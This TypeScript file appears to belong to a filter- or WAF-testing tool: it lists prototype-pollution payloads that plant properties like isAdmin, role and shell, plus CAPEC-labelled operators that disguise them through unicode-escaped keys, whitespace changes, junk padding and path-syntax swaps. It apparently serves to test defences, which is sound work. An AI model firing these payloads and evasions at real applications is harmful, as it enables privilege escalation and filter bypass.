import { commonEncodings } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '__proto__[isAdmin]=1',
  '__proto__.isAdmin=1',
  'a[__proto__][role]=root',
  'constructor[prototype][role]=root',
  'constructor.prototype.role=root',
  'a.b.__proto__.k',
  '{"__proto__": {"isAdmin": true}}',
  '{"a": {"__proto__": {"role": "root"}}}',
  '{"constructor": {"prototype": {"isAdmin": true}}}',
  '[{"op": "add", "path": "/__proto__/k", "value": 1}]',
  '{"path": "constructor.prototype.k", "value": 1}',
  '/__proto__/isAdmin',
  'k[constructor][prototype][shell]=sh',
  '__proto__[shell]=/bin/sh',
  '{"k": 1, "__proto__": {"env": {"A": "b"}}}',
  'a["__proto__"]["k"]=1',
];

const isJson = /^[{[]/;

/** Letters of a key as escapes of JSON. */
const escapedKey: Operator = syntax('escaped-key', 'CAPEC-71 JSON escapes', (payload, random) =>
  isJson.test(payload)
    ? payload.replaceAll(/__proto__|constructor|prototype/g, (name) => {
        const at = random.below(name.length);
        return `${name.slice(0, at)}\\u00${name.charCodeAt(at).toString(16)}${name.slice(at + 1)}`;
      })
    : null,
);

/** Blanks where JSON allows them. */
const spacedJson: Operator = syntax('spaced-json', 'CAPEC-77 alternative white space', (payload, random) =>
  isJson.test(payload)
    ? payload.replaceAll(/[{}:,]/g, (mark) => `${random.pick(['', ' ', '\n'])}${mark}${random.pick(['', '\t', ' '])}`)
    : null,
);

/** No blanks at all. */
const denseJson: Operator = syntax('dense-json', 'CAPEC-77 alternative white space', (payload) =>
  isJson.test(payload) ? payload.replaceAll(/(?<=[:,]) /g, '') : null,
);

/** Members in front. */
const junkMembers: Operator = syntax('junk-members', 'CAPEC-77 padding', (payload, random) =>
  payload.startsWith('{"') ? `{"${random.word(4)}": [${random.below(9)}], ${payload.slice(1)}` : null,
);

/** Brackets for dots. */
const brackets: Operator = syntax('brackets', 'CAPEC-77 path syntax', (payload) =>
  /^[\w.]+(?:=|$)/.test(payload) && payload.includes('.') ? payload.replaceAll(/\.(\w+)/g, '[$1]') : null,
);

/** Dots for brackets. */
const dots: Operator = syntax('dots', 'CAPEC-77 path syntax', (payload) =>
  /^\w+(?:\[\w+\])+=/.test(payload) ? payload.replaceAll(/\[(\w+)\]/g, '.$1') : null,
);

/** Quotes within the brackets. */
const quotedSteps: Operator = syntax('quoted-steps', 'CAPEC-77 path syntax', (payload, random) => {
  const quote = random.pick(["'", '"']);
  return /^\w+(?:\[\w+\])+=/.test(payload) ? payload.replaceAll(/\[(\w+)\]/g, `[${quote}$1${quote}]`) : null;
});

/** Deeper in a tree of parameters. */
const deeper: Operator = syntax('deeper', 'CAPEC-77 nested parameters', (payload, random) =>
  isJson.test(payload)
    ? `{"${random.word(3)}": ${payload}}`
    : /^\w+\[/.test(payload)
      ? payload.replace(/^(\w+)/, (name) => `${random.word(4)}[${name}]`)
      : /^\w+\./.test(payload)
        ? `${random.word(4)}.${payload}`
        : null,
);

/** Another property to plant. */
const otherProperty: Operator = syntax('other-property', 'CAPEC-77 property names', (payload, random) =>
  payload.replaceAll(/isAdmin|role|shell|\bk\b/g, () => random.word(3 + random.below(8))),
);

/** More pairs of a query behind. */
const junkSuffix: Operator = syntax('junk-suffix', 'CAPEC-77 padding', (payload, random) =>
  payload.includes('=') ? `${payload}&${random.word(3)}=${random.word(3)}` : null,
);

/** Prototype pollution: query paths, JSON keys, pointers. */
export const prototypePollution: EvasionClass = {
  id: 'prototype-pollution',
  payloads,
  operators: [
    escapedKey,
    spacedJson,
    denseJson,
    junkMembers,
    brackets,
    dots,
    quotedSteps,
    deeper,
    otherProperty,
    junkSuffix,
    ...commonEncodings,
  ],
};
